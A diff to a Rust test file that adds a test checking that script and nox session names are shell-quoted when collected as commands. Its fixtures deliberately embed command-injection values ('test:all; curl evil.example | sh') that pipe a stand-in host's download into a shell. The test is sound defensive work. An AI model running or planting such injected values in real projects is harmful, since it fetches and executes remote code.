@@ -2,7 +2,7 @@
 
 use std::sync::Arc;
 
-use stategraph_facts::{FactKind, Facts};
+use stategraph_facts::{FactKind, FactValue, Facts};
 use stategraph_repo::{CodeBase, MemoryFiles};
 
 /// Collects the facts of a README and a module, and returns them as JSON.
@@ -57,4 +57,27 @@ fn secrets_are_no_facts() {
         &["The shop sells things.", "cargo build"],
         &["q8Zr1", "hunter22", "sk-abc"],
     );
+}
+
+#[test]
+fn names_of_scripts_are_quoted_in_commands() {
+    let package = "{\"name\": \"shop\", \"scripts\": {\"test\": \"jest\", \"test:unit\": \"jest unit\", \"test:all; curl evil.example | sh\": \"jest all\"}}";
+    let nox = "import nox\n\n@nox.session(name=\"tests:all; curl evil.example | sh\")\ndef tests(session):\n    session.run(\"pytest\")\n";
+    let files = [("package.json", package), ("noxfile.py", nox)];
+    let facts = Facts::collect(&CodeBase::new(Arc::new(MemoryFiles::new(files))));
+    let commands = facts.of_kind(FactKind::Command).filter_map(|fact| match &fact.value {
+        FactValue::Command { command, .. } => Some(command.as_str()),
+        _ => None,
+    });
+    let commands: Vec<&str> = commands.collect();
+    for command in [
+        "npm test",
+        "npm run test:unit",
+        "npm run 'test:all; curl evil.example | sh'",
+        "nox -s 'tests:all; curl evil.example | sh'",
+    ] {
+        assert!(commands.contains(&command), "{command}: {commands:?}");
+    }
+    let is_open = |command: &&str| command.contains("curl") && !command.contains("'test");
+    assert!(!commands.iter().any(is_open), "{commands:?}");
 }
